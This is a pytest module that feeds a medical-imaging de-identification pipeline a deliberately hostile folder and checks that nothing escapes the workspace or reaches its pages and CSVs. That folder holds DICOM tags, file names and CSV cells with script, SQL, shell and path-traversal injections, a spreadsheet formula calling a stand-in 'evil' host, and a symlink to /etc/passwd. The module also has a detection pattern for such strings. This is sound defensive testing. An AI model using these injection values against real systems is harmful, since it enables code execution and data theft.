"""A folder made to do harm: hostile values, names, links, lengths and tables, and one run over all of them.

What a single module refuses is tested with it; docs/security.md lists which test holds what.
"""

from __future__ import annotations

import csv
import os
import re
import struct
from dataclasses import dataclass
from pathlib import Path

import pydicom
import pytest
from prefect.client.orchestration import get_client
from pydicom.dataset import FileDataset
from pydicom.uid import ExplicitVRLittleEndian
from sqlalchemy import inspect

from tasks.core.cohort import read_cohort
from tasks.core.workspace import Workspace
from tasks.record.ledger import Ledger
from tasks.record.schema import Base
from tests.support.prefect import folder_workspace
from tests.support.runs import build, over, sluice

pytestmark = pytest.mark.services

HTML = "<img src=x onerror=alert(1)>"
LINK = "[click](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'
SQL = "'); DROP TABLE unit; --"
HARM = re.compile(rb"<img src=x|<script>alert|javascript:alert|onerror=|DROP TABLE|\bevil/", re.IGNORECASE)
NAMES = (
    "=1+1.dcm", "; touch pwned;.dcm", "$(touch pwned).dcm", "a\nb.dcm", "<img src=x onerror=alert(1)>.dcm", "-rf",
    os.fsdecode(b"\xff\xfe.dcm"), "..%2f..%2fx.dcm", "'; DROP TABLE unit; --.dcm",
)  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """A finished run over the hostile folder, and the folder around both with what lay in it before."""

    workspace: Workspace
    around: Path
    before: set[Path]
    state: str


def _template(hospital: Path) -> Path:
    """A plain CT slice of the hospital."""
    for path in sorted((hospital / "dicom").rglob("*")):
        if path.is_file() and path.read_bytes()[128:132] == b"DICM":
            ds = pydicom.dcmread(path, force=True)
            if (
                ds.get("Modality") == "CT"
                and ds.file_meta.TransferSyntaxUID == ExplicitVRLittleEndian
                and "PixelData" in ds
            ):
                return path
    raise AssertionError("the hospital has no CT")


def _slices(template: Path, place: Path) -> None:
    """One harmless patient, and one series for each hostile value, each a patient of its own."""
    hostile = {
        "Manufacturer": HTML,
        "ManufacturerModelName": FORMULA,
        "Modality": "../../../../pwned",
        "PatientSex": "<script>alert(1)</script>",
        "StudyDescription": LINK,
        "SeriesDescription": SQL,
        "BodyPartExamined": "@SUM(1)",
        "AccessionNumber": FORMULA,
        "PatientID": "../../../../pwned",
        "SOPInstanceUID": "../../../../pwned",
    }
    for number, (keyword, value) in enumerate(({"PatientComments": "none"} | hostile).items()):
        ds = _another(template, number, 0)
        setattr(ds, keyword, value)
        folder = place / f"{number}"
        folder.mkdir()
        ds.save_as(folder / (NAMES[number] if number < len(NAMES) else "plain"), enforce_file_format=False)
    ds = _another(template, 90, 0)
    ds.Rows = ds.Columns = 65535
    ds.save_as(place / "huge-header.dcm")
    _another(template, 91, 0).save_as(place / "three-gigabytes.dcm")
    content = (place / "three-gigabytes.dcm").read_bytes()
    (place / "three-gigabytes.dcm").write_bytes(
        content[: content.index(b"\xe0\x7f\x10\x00")]
        + struct.pack("<HH2sHL", 0x7FE0, 0x10, b"OW", 0, 3 * 2**30)
        + b"ab"
    )
    (place / "out").symlink_to("/etc/passwd")
    (place / "around").symlink_to(place)
    (place / "nowhere").symlink_to("/nonexistent/x")
    os.mkfifo(place / "pipe.dcm")


def _another(template: Path, number: int, position: int) -> FileDataset:
    ds = pydicom.dcmread(template)
    uid = f"1.3.6.1.4.1.9999.7.{number}"
    ds.PatientID, ds.PatientName, ds.AccessionNumber = f"HOSTILE-{number}", "Attack^Test", f"ACC-{number}"
    ds.StudyInstanceUID, ds.SeriesInstanceUID, ds.SOPInstanceUID = f"{uid}.1", f"{uid}.2", f"{uid}.3.{position}"
    ds.file_meta.MediaStorageSOPInstanceUID = ds.SOPInstanceUID
    pixels = bytearray(ds.PixelData)
    pixels[number * 2] ^= 1  # two patients must not share their pixels
    ds.PixelData = bytes(pixels)
    return ds


def _tables(place: Path) -> None:
    cells = (SQL, HTML, LINK, FORMULA, "1; DELETE FROM unit", "=1", "@x", "\t1", "+1", "-1")
    with (place / "labels.csv").open("w", newline="") as handle:
        rows = csv.writer(handle)
        rows.writerow(("AccessionNumber", "PatientID", "lesion"))
        rows.writerow(("ACC-0", "HOSTILE-0", "1"))
        rows.writerows((f"ACC-{n}", f"HOSTILE-{n}", cell) for n, cell in enumerate(cells, 1))
        rows.writerow((SQL, FORMULA, "1"))
    with (place / "ehr.csv").open("w", newline="") as handle:
        rows = csv.writer(handle)
        rows.writerow(("PatientID", "age", "sex", "bmi", "icd10", "encounter_date"))
        rows.writerow(("HOSTILE-0", "50", "F", "22.5", "C34.1", "2020-01-01"))
        rows.writerows((f"HOSTILE-{n}", cell, cell, cell, cell, cell) for n, cell in enumerate(cells, 1))


@pytest.fixture(scope="module")
def attack(prefect: None, small_hospital: Path, tmp_path_factory: pytest.TempPathFactory) -> Attack:
    """The one run of this module. Its gates let a data set of strange values pass: they aren't what is tested here."""
    around = tmp_path_factory.mktemp("attack")
    source = around / "source"
    source.mkdir()
    _slices(_template(small_hospital), source)
    _tables(source)
    workspace = over(
        folder_workspace(around / "workspace", source),
        source,
        extract={"folder": str(source)},
        deidentify={"pixels": {"accept": ["CT"]}, "profile": "research"},
    )
    for suite in workspace.expectations.glob("*.json"):
        suite.write_text(suite.read_text().replace('"severity": "critical"', '"severity": "warning"'))
    before = set(around.iterdir())
    state = build(workspace)
    assert state.is_completed(), state.message
    return Attack(workspace, around, before, str(state.name))


def test_every_hostile_file_has_its_outcome_and_the_books_balance(attack: Attack) -> None:
    with Ledger.open(attack.workspace) as ledger:
        tally = ledger.tally(read_cohort(attack.workspace))
        with ledger.database.read() as connection:
            assert set(Base.metadata.tables) <= set(inspect(connection).get_table_names())
    assert tally.balances
    assert tally.released >= 5
    assert tally.quarantined + tally.skipped >= 3
    print(tally)


def test_nothing_is_written_outside_of_the_workspace(attack: Attack) -> None:
    assert set(attack.around.iterdir()) == attack.before
    assert [path for path in attack.around.rglob("*pwned*") if "source" not in path.parts] == []
    assert not list(Path("/").glob("pwned*"))
    assert list(attack.workspace.quarantine.iterdir()) == []


def test_no_page_of_ours_runs_or_links_what_a_source_wrote(attack: Attack) -> None:
    dataset = attack.workspace.dataset
    pages = [attack.workspace.docs / "index.html", dataset / "README.md", dataset / "croissant.json"]
    for page in pages:
        assert HARM.search(page.read_bytes()) is None, page.name
    with get_client(sync_client=True) as client:
        told = [f"{found.data} {found.description}" for found in client.read_artifacts(limit=200)]
        runs = [f"{run.name} {run.state}" for run in client.read_task_runs(limit=200)]
    assert len(told) >= 3
    assert [text for text in (*told, *runs) if HARM.search(text.encode())] == []


def test_no_cell_of_a_released_csv_is_a_formula(attack: Attack) -> None:
    seen = 0
    for path in attack.workspace.dataset.rglob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    seen += 1
                    if cell[:1] in tuple("=+-@\t\r") and cell:
                        float(cell)
    assert seen > 500


def test_no_name_of_a_file_or_folder_of_the_workspace_comes_from_the_source(attack: Attack) -> None:
    for path in attack.workspace.data.rglob("*"):
        name = path.relative_to(attack.workspace.data)
        assert re.fullmatch(r"[A-Za-z0-9._/\-]+", str(name)), name


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("name", "../../pwned"),
        ("name", "x; touch pwned"),
        ("name", "--upload-pack=touch"),
        ("name", "x' OR '1'='1"),
    ],
)
def test_a_release_cannot_be_named_so_that_it_leads_elsewhere(attack: Attack, setting: str, value: str) -> None:
    params = attack.workspace.params.read_text()
    try:
        over(attack.workspace, attack.workspace.root, export={setting: value})
        code, _, err = sluice("status", "--workspace", str(attack.workspace.root))
    finally:
        attack.workspace.params.write_text(params)
    assert code == 2
    assert "export.name" in err
    assert len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("identifier", [SQL, "' OR '1'='1", "HOSTILE-0' --", "*", "%", "HOSTILE-_"])
def test_an_id_of_a_cohort_csv_is_compared_and_never_run(attack: Attack, tmp_path: Path, identifier: str) -> None:
    cohort = tmp_path / "cohort.csv"
    with cohort.open("w", newline="") as handle:
        csv.writer(handle).writerows([("PatientID",), (identifier,)])
    params = attack.workspace.params.read_text()
    try:
        changed = over(attack.workspace, attack.workspace.root, extract={
            "source": "folder", "folder": str(attack.around / "source"), "cohort_csv": str(cohort),
            "labels_csv": None, "ehr_csv": None,
        })  # fmt: skip
        state = build(changed, dry_run=True)
    finally:
        attack.workspace.params.write_text(params)
    assert state.is_failed()
    assert "no series to take" in str(state.message)
    assert HARM.search(str(state.message).encode()) is None
